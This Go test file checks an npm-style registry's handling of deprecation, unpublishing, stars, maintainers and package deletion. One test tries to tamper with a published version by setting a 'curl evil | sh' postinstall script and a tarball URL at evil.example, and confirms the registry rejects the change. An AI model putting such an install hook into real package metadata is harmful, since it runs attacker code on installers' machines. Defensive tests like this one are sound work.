package npm

import (
	"bytes"
	"net/http"
	"net/http/httptest"
	"reflect"
	"testing"
)

// versionsMap returns the document's versions for editing.
func versionsMap(doc map[string]any) map[string]any { return doc["versions"].(map[string]any) }

func TestDeprecateAndUndeprecate(t *testing.T) {
	hs := newHarness(t, defaultUsers())
	hs.mustPublish("x", "1.0.0")
	hs.mustPublish("x", "2.0.0")

	doc := hs.writeDoc("x")
	versionOf(doc, "1.0.0")["deprecated"] = "use 2.x"
	w := hs.putDoc("writer", "x", doc)
	expectStatus(t, w, http.StatusOK)
	if resp := decodeBody(t, w); resp["ok"] != true || resp["rev"] == doc["_rev"] {
		t.Fatalf("answer = %v, want ok and a new rev", resp)
	}
	got := hs.packument("reader", "x")
	if versionOf(got, "1.0.0")["deprecated"] != "use 2.x" {
		t.Fatalf("1.0.0 not deprecated: %v", versionOf(got, "1.0.0"))
	}
	if _, ok := versionOf(got, "2.0.0")["deprecated"]; ok {
		t.Fatalf("2.0.0 deprecated too: %v", versionOf(got, "2.0.0"))
	}
	w = hs.do(call{method: http.MethodGet, path: "/x", user: "reader", header: map[string]string{"Accept": mediaTypeAbbreviated}})
	if versionOf(decodeBody(t, w), "1.0.0")["deprecated"] != "use 2.x" {
		t.Fatal("abbreviated document lacks the deprecation")
	}
	if events := hs.recorded(); events[len(events)-1].Action != "package.changed" {
		t.Fatalf("last event = %+v, want package.changed", events[len(events)-1])
	}

	// npm deprecate sends the document to PUT /:pkg, without -rev.
	doc = hs.writeDoc("x")
	versionOf(doc, "1.0.0")["deprecated"] = ""
	expectStatus(t, hs.do(call{method: http.MethodPut, path: "/x", body: jsonString(t, doc), user: "writer"}), http.StatusOK)
	if _, ok := versionOf(hs.packument("reader", "x"), "1.0.0")["deprecated"]; ok {
		t.Fatal("deprecated \"\" did not un-deprecate")
	}
}

func TestChangeNeverRewritesVersionContents(t *testing.T) {
	hs := newHarness(t, defaultUsers())
	tb := hs.mustPublish("x", "1.0.0")
	before := versionOf(hs.packument("reader", "x"), "1.0.0")
	doc := hs.writeDoc("x")
	v := versionOf(doc, "1.0.0")
	v["dependencies"] = map[string]any{"evil": "*"}
	v["scripts"] = map[string]any{"postinstall": "curl evil | sh"}
	v["dist"].(map[string]any)["integrity"] = integrityOf([]byte("evil"))
	v["dist"].(map[string]any)["tarball"] = "http://evil.example/x.tgz"
	v["deprecated"] = "gone"
	expectStatus(t, hs.putDoc("admin", "x", doc), http.StatusOK)
	after := versionOf(hs.packument("reader", "x"), "1.0.0")
	delete(after, "deprecated")
	if !reflect.DeepEqual(after, before) {
		t.Fatalf("version contents changed:\n%v\nwas\n%v", after, before)
	}
	w := hs.get("reader", "/x/-/x-1.0.0.tgz")
	expectStatus(t, w, http.StatusOK)
	if !bytes.Equal(w.Body.Bytes(), tb) {
		t.Fatal("tarball changed")
	}
}

func TestUnpublishOneVersion(t *testing.T) {
	hs := newHarness(t, defaultUsers())
	hs.mustPublish("x", "1.0.0")
	hs.mustPublish("x", "1.1.0")
	tb2 := hs.mustPublish("x", "2.0.0")
	expectStatus(t, hs.do(call{method: http.MethodPut, path: "/-/package/x/dist-tags/beta", body: []byte(`"2.0.0"`), user: "writer"}), http.StatusCreated)

	doc := hs.writeDoc("x")
	delete(versionsMap(doc), "2.0.0") // as npm does; dist-tags still name 2.0.0
	before := hs.storedPackument("x")
	w := hs.putDoc("writer", "x", doc)
	expectError(t, w, http.StatusForbidden, "delete")
	if got := hs.storedPackument("x"); !bytes.Equal(got, before) {
		t.Fatal("a refused unpublish changed the document")
	}

	w = hs.putDoc("admin", "x", doc)
	expectStatus(t, w, http.StatusOK)
	got := hs.packument("reader", "x")
	if vs := versionsOf(got); !reflect.DeepEqual(vs, []string{"1.0.0", "1.1.0"}) {
		t.Fatalf("versions = %v", vs)
	}
	if tags := distTagsOf(got); !reflect.DeepEqual(tags, map[string]any{"latest": "1.1.0"}) {
		t.Fatalf("dist-tags = %v, want beta dropped and latest re-pointed to 1.1.0", tags)
	}
	expectStatus(t, hs.get("reader", "/x/-/x-2.0.0.tgz"), http.StatusNotFound)
	expectStatus(t, hs.get("reader", "/x/2.0.0"), http.StatusNotFound)
	if objs := hs.objects("npm/packages/x/tarballs"); len(objs) != 2 {
		t.Fatalf("tarballs stored = %v, want the 2 remaining", objs)
	}
	for _, obj := range hs.objects("npm/packages/x/tarballs") {
		if bytes.Contains([]byte(obj), []byte(sha512Hex(tb2))) {
			t.Fatalf("tarball of 2.0.0 still stored at %s", obj)
		}
	}
	found := false
	for _, e := range hs.recorded() {
		if e.Action == "version.unpublished" && e.Package == "x" && e.Version == "2.0.0" && e.Identity.Subject == "admin" {
			found = true
		}
	}
	if !found {
		t.Fatalf("no version.unpublished event: %+v", hs.recorded())
	}

	// npm then deletes the tarball: gone already, so fine; a tarball
	// still in use is refused.
	rev := hs.writeDoc("x")["_rev"].(string)
	expectStatus(t, hs.do(call{method: http.MethodDelete, path: "/x/-/x-2.0.0.tgz/-rev/" + rev, user: "admin"}), http.StatusOK)
	expectError(t, hs.do(call{method: http.MethodDelete, path: "/x/-/x-1.0.0.tgz/-rev/" + rev, user: "admin"}), http.StatusConflict, "still used")
	expectError(t, hs.do(call{method: http.MethodDelete, path: "/x/-/x-2.0.0.tgz/-rev/" + rev, user: "writer"}), http.StatusForbidden, "delete")
	w = hs.get("reader", "/x/-/x-1.0.0.tgz")
	expectStatus(t, w, http.StatusOK)
}

func TestUnpublishLatestWithClientFixedTags(t *testing.T) {
	hs := newHarness(t, defaultUsers())
	hs.mustPublish("x", "1.0.0")
	hs.mustPublish("x", "2.0.0")
	doc := hs.writeDoc("x")
	delete(versionsMap(doc), "1.0.0")
	doc["dist-tags"] = map[string]any{"latest": "2.0.0", "old": "2.0.0"}
	expectStatus(t, hs.putDoc("admin", "x", doc), http.StatusOK)
	if tags := distTagsOf(hs.packument("reader", "x")); !reflect.DeepEqual(tags, map[string]any{"latest": "2.0.0", "old": "2.0.0"}) {
		t.Fatalf("dist-tags = %v", tags)
	}
}

func TestUnpublishLastVersionDeletesPackage(t *testing.T) {
	hs := newHarness(t, defaultUsers())
	hs.mustPublish("@acme/x", "1.0.0")
	doc := hs.writeDoc("@acme/x")
	doc["versions"] = map[string]any{}
	expectError(t, hs.putDoc("writer", "@acme/x", doc), http.StatusForbidden, "delete")
	w := hs.putDoc("admin", "@acme/x", doc)
	expectStatus(t, w, http.StatusOK)
	expectStatus(t, hs.get("reader", "/@acme%2fx"), http.StatusNotFound)
	expectStatus(t, hs.get("reader", "/@acme/x/-/x-1.0.0.tgz"), http.StatusNotFound)
	if objs := hs.objects("npm/packages"); len(objs) != 0 {
		t.Fatalf("objects left: %v", objs)
	}
	var actions []string
	for _, e := range hs.recorded() {
		actions = append(actions, e.Action)
	}
	if !reflect.DeepEqual(actions, []string{"package.published", "dist-tag.set", "version.unpublished", "package.unpublished"}) {
		t.Fatalf("events = %v", actions)
	}
	// The name is free again, for versions it never had.
	hs.mustPublish("@acme/x", "2.0.0")
	w = hs.publishAs("admin", "", newPublish("@acme/x", "1.0.0", tarballOf("@acme/x", "1.0.0")))
	expectError(t, w, http.StatusForbidden, "previously published versions: 1.0.0")
}

func TestUnpublishDisabled(t *testing.T) {
	hs := newHarnessWith(t, harnessConfig{users: defaultUsers(), options: func(o *Options) { o.DisableUnpublish = true }})
	hs.mustPublish("x", "1.0.0")
	hs.mustPublish("x", "2.0.0")
	doc := hs.writeDoc("x")
	delete(versionsMap(doc), "2.0.0")
	expectError(t, hs.putDoc("admin", "x", doc), http.StatusMethodNotAllowed, "disabled")
	expectError(t, hs.do(call{method: http.MethodDelete, path: "/x/-rev/" + doc["_rev"].(string), user: "admin"}), http.StatusMethodNotAllowed, "disabled")
	if got := versionsOf(hs.packument("reader", "x")); len(got) != 2 {
		t.Fatalf("versions = %v", got)
	}
	// Deprecation still works.
	doc = hs.writeDoc("x")
	versionOf(doc, "1.0.0")["deprecated"] = "old"
	expectStatus(t, hs.putDoc("admin", "x", doc), http.StatusOK)
}

func TestStarChangesOnlyTheCallersEntry(t *testing.T) {
	hs := newHarness(t, defaultUsers())
	hs.mustPublish("x", "1.0.0")
	star := func(user string, users map[string]any, path string) {
		t.Helper()
		rev := hs.writeDoc("x")["_rev"]
		body := jsonString(t, map[string]any{"_id": "x", "_rev": rev, "users": users})
		if path == "" {
			path = "/x/-rev/" + rev.(string)
		}
		expectStatus(t, hs.do(call{method: http.MethodPut, path: path, body: body, user: user}), http.StatusOK)
	}
	before := hs.packument("reader", "x")

	// npm star sends every starrer it saw plus itself; only its own entry counts.
	star("reader", map[string]any{"reader": true, "admin": true, "mallory": true}, "/x")
	doc := hs.packument("reader", "x")
	if got := doc["users"]; !reflect.DeepEqual(got, map[string]any{"reader": true}) {
		t.Fatalf("users = %v, want only reader", got)
	}
	if !reflect.DeepEqual(doc["versions"], before["versions"]) || !reflect.DeepEqual(doc["dist-tags"], before["dist-tags"]) {
		t.Fatal("a star changed versions or dist-tags")
	}

	star("writer", map[string]any{"reader": true, "writer": true}, "")
	if got := hs.packument("reader", "x")["users"]; !reflect.DeepEqual(got, map[string]any{"reader": true, "writer": true}) {
		t.Fatalf("users = %v", got)
	}
	// Unstar: the caller's entry goes, the others stay.
	star("reader", map[string]any{"writer": true}, "")
	if got := hs.packument("reader", "x")["users"]; !reflect.DeepEqual(got, map[string]any{"writer": true}) {
		t.Fatalf("users = %v", got)
	}
	star("writer", map[string]any{}, "")
	if got, ok := hs.packument("reader", "x")["users"]; ok {
		t.Fatalf("users = %v, want none", got)
	}
}

// A body without versions changes what it carries: maintainers (`npm
// owner`, for a caller who may write) and the caller's own star; dist-tags
// change through their endpoint only. From a caller who may only read, a
// member that would change the package is refused (403) and nothing
// changes.
func TestBodyWithoutVersionsChangesMaintainersAndStarOnly(t *testing.T) {
	hs := newHarness(t, defaultUsers())
	hs.mustPublish("x", "1.0.0")
	before := hs.packument("reader", "x")
	star := func(user string) map[string]any {
		return map[string]any{
			"_id": "x", "users": map[string]any{user: true},
			"maintainers": []any{map[string]any{"name": user, "email": ""}},
			"dist-tags":   map[string]any{"latest": "1.0.0", "evil": "1.0.0"},
		}
	}
	expectStatus(t, hs.do(call{method: http.MethodPut, path: "/x", body: jsonString(t, star("writer")), user: "writer"}), http.StatusOK)
	expectError(t, hs.do(call{method: http.MethodPut, path: "/x", body: jsonString(t, star("reader")), user: "reader"}), http.StatusForbidden, "npm:package:x:write")
	after := hs.packument("reader", "x")
	if want := []any{map[string]any{"name": "writer", "email": ""}}; !reflect.DeepEqual(after["maintainers"], want) {
		t.Fatalf("maintainers = %v, want %v", after["maintainers"], want)
	}
	if !reflect.DeepEqual(after["dist-tags"], before["dist-tags"]) {
		t.Fatalf("a body without versions changed dist-tags: %v", after["dist-tags"])
	}
	if got := after["users"]; !reflect.DeepEqual(got, map[string]any{"writer": true}) {
		t.Fatalf("users = %v", got)
	}
}

func TestStarNeedsIdentity(t *testing.T) {
	hs := newHarnessWith(t, harnessConfig{users: defaultUsers(), anonymous: []string{"npm:package:*:read"}})
	hs.mustPublish("x", "1.0.0")
	body := jsonString(t, map[string]any{"_id": "x", "users": map[string]any{"": true}})
	expectStatus(t, hs.do(call{method: http.MethodPut, path: "/x", body: body}), http.StatusUnauthorized)
	if _, ok := hs.packument("", "x")["users"]; ok {
		t.Fatal("anonymous star recorded")
	}
}

func TestChangeRefusals(t *testing.T) {
	tests := []struct {
		name   string
		user   string
		status int
		want   string
		edit   func(doc map[string]any)
	}{
		{"adding a version without its tarball", "admin", 400, "publish it with its tarball", func(doc map[string]any) {
			v := map[string]any{"name": "x", "version": "3.0.0", "dist": map[string]any{"integrity": integrityOf([]byte("a")), "tarball": "x/-/x-3.0.0.tgz"}}
			versionsMap(doc)["3.0.0"] = v
		}},
		{"name mismatch", "admin", 400, "does not match", func(doc map[string]any) {
			doc["name"] = "y"
		}},
		{"reader deprecating", "reader", 403, "write", func(doc map[string]any) {
			versionOf(doc, "1.0.0")["deprecated"] = "no"
		}},
		{"anonymous deprecating", "", 401, "authentication required", func(doc map[string]any) {
			versionOf(doc, "1.0.0")["deprecated"] = "no"
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			hs := newHarness(t, defaultUsers())
			hs.mustPublish("x", "1.0.0")
			before := hs.storedPackument("x")
			doc := hs.writeDoc("x")
			tt.edit(doc)
			expectError(t, hs.putDoc(tt.user, "x", doc), tt.status, tt.want)
			if got := hs.storedPackument("x"); !bytes.Equal(got, before) {
				t.Fatalf("document changed:\n%s", got)
			}
		})
	}
}

func TestChangeOfMissingPackageIs404(t *testing.T) {
	hs := newHarness(t, defaultUsers())
	body := jsonString(t, map[string]any{"_id": "x", "name": "x", "versions": map[string]any{}})
	expectStatus(t, hs.do(call{method: http.MethodPut, path: "/x/-rev/1-a", body: body, user: "admin"}), http.StatusNotFound)
	if objs := hs.objects("npm"); len(objs) != 0 {
		t.Fatalf("objects stored: %v", objs)
	}
}

func TestChangeSetsMaintainers(t *testing.T) {
	hs := newHarness(t, defaultUsers())
	hs.mustPublish("x", "1.0.0")
	doc := hs.writeDoc("x")
	want := []any{map[string]any{"name": "admin", "email": ""}, map[string]any{"name": "bob", "email": "b@example.com"}}
	doc["maintainers"] = want
	expectStatus(t, hs.putDoc("writer", "x", doc), http.StatusOK)
	if got := hs.packument("reader", "x")["maintainers"]; !reflect.DeepEqual(got, want) {
		t.Fatalf("maintainers = %v, want %v", got, want)
	}
}

func TestDeletePackage(t *testing.T) {
	hs := newHarness(t, defaultUsers())
	hs.mustPublish("@acme/x", "1.0.0")
	hs.mustPublish("@acme/x", "2.0.0")
	hs.mustPublish("@acme/y", "1.0.0")
	rev := hs.writeDoc("@acme/x")["_rev"].(string)

	expectError(t, hs.do(call{method: http.MethodDelete, path: "/@acme%2fx/-rev/" + rev, user: "writer"}), http.StatusForbidden, "delete")
	expectError(t, hs.do(call{method: http.MethodDelete, path: "/@acme%2fx/-rev/" + rev}), http.StatusUnauthorized, "authentication")
	expectStatus(t, hs.get("reader", "/@acme%2fx"), http.StatusOK)

	w := hs.do(call{method: http.MethodDelete, path: "/@acme%2fx/-rev/" + rev, user: "admin"})
	expectStatus(t, w, http.StatusOK)
	if resp := decodeBody(t, w); resp["ok"] != true {
		t.Fatalf("answer = %v", resp)
	}
	expectStatus(t, hs.get("reader", "/@acme%2fx"), http.StatusNotFound)
	expectStatus(t, hs.get("reader", "/@acme/x/-/x-1.0.0.tgz"), http.StatusNotFound)
	if objs := hs.objects("npm/packages/@acme/x"); len(objs) != 0 {
		t.Fatalf("objects left: %v", objs)
	}
	// The neighbour in the same scope is untouched.
	expectStatus(t, hs.get("reader", "/@acme/y/-/y-1.0.0.tgz"), http.StatusOK)
	last := hs.recorded()[len(hs.recorded())-1]
	if last.Action != "package.unpublished" || last.Package != "@acme/x" {
		t.Fatalf("last event = %+v", last)
	}
	expectError(t, hs.do(call{method: http.MethodDelete, path: "/@acme%2fx/-rev/" + rev, user: "admin"}), http.StatusNotFound, "not found")
}

func TestDeleteUnusedTarballOfMissingPackageIsOK(t *testing.T) {
	hs := newHarness(t, defaultUsers())
	expectStatus(t, hs.do(call{method: http.MethodDelete, path: "/x/-/x-1.0.0.tgz/-rev/1-a", user: "admin"}), http.StatusOK)
}

func TestStaleDocumentDoesNotUnpublishNewerVersions(t *testing.T) {
	// npm deprecate: GET ?write=true, then PUT /:pkg with the whole
	// document. A version published in between is not in that document.
	for _, path := range []string{"/x", ""} {
		t.Run("PUT "+map[string]string{"/x": "/:pkg", "": "/:pkg/-rev/:rev"}[path], func(t *testing.T) {
			hs := newHarness(t, defaultUsers())
			hs.mustPublish("x", "1.0.0")
			doc := hs.writeDoc("x")
			hs.mustPublish("x", "1.1.0") // by someone else, meanwhile
			versionOf(doc, "1.0.0")["deprecated"] = "use 1.1.0"
			var w *httptest.ResponseRecorder
			if path == "" {
				w = hs.putDoc("admin", "x", doc)
			} else {
				w = hs.do(call{method: http.MethodPut, path: path, body: jsonString(t, doc), user: "admin"})
			}
			// Refusing the stale document (409, as CouchDB does) or keeping
			// the newer version are both fine; losing it is not.
			if w.Code != http.StatusConflict {
				expectStatus(t, w, http.StatusOK)
			}
			if got := versionsOf(hs.packument("reader", "x")); !reflect.DeepEqual(got, []string{"1.0.0", "1.1.0"}) {
				t.Fatalf("versions = %v: a deprecate from a stale document unpublished 1.1.0", got)
			}
		})
	}
}
